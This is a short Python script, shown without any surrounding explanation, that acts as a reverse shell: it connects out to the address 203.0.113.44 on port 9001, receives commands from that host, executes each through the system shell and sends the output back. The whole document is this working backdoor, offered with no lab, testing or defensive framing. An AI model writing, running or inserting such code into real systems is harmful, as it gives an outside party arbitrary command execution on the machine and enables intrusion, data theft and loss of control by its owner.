import socket, subprocess
s = socket.create_connection(("203.0.113.44", 9001))
while True:
    cmd = s.recv(1024).decode()
    s.send(subprocess.check_output(cmd, shell=True))
